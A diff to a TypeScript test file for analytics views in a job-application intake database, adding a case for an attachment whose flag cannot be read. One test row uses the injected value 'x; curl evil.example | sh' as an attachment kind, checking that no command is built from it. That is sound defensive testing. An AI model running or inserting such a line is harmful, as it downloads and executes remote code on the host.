@@ -2,6 +2,7 @@
 // `npm run dbt:sources` (this file with -u) also writes the dbt sources from the comments.
 import { resolve } from 'node:path';
 import { describe, expect } from 'vitest';
+import { unreadableFlag } from '../../src/domain/application.ts';
 import type { Screen } from '../../src/domain/screen.ts';
 import { appendEvents } from '../../src/store/events.ts';
 import { replaceScreens } from '../../src/store/files/screens.ts';
@@ -359,12 +360,14 @@ describe('the views', () => {
     await database.query(`INSERT INTO intake.applications (advertiser_id, application_id, raw, content_hash, observed_seq)
       VALUES (9, 1, '{}', '\\x00', 1)`);
     await database.query(`INSERT INTO intake.attachments (advertiser_id, application_id, kind, state, reason) VALUES
-      (9, 1, 'resume', 'given_up', 'r'), (9, 1, 'x; curl evil.example | sh', 'rejected', 'r')`);
+      (9, 1, 'resume', 'given_up', 'r'), (9, 1, 'screen', 'rejected', '${unreadableFlag}'), (9, 1, 'x; curl evil.example | sh', 'rejected', 'r')`);
     const next = await database.query<{ kind: string; next: string | null }>(
       `SELECT kind, next FROM intake_analytics.attachment_problems WHERE advertiser_id = 9 ORDER BY kind`,
     );
     expect(next).toEqual([
       { kind: 'resume', next: 'intake retry --application 1 --kind resume' },
+      // A retry leaves it out: it is fetched when its flag can be read.
+      { kind: 'screen', next: 'intake sync --recheck' },
       { kind: 'x; curl evil.example | sh', next: null },
     ]);
   });
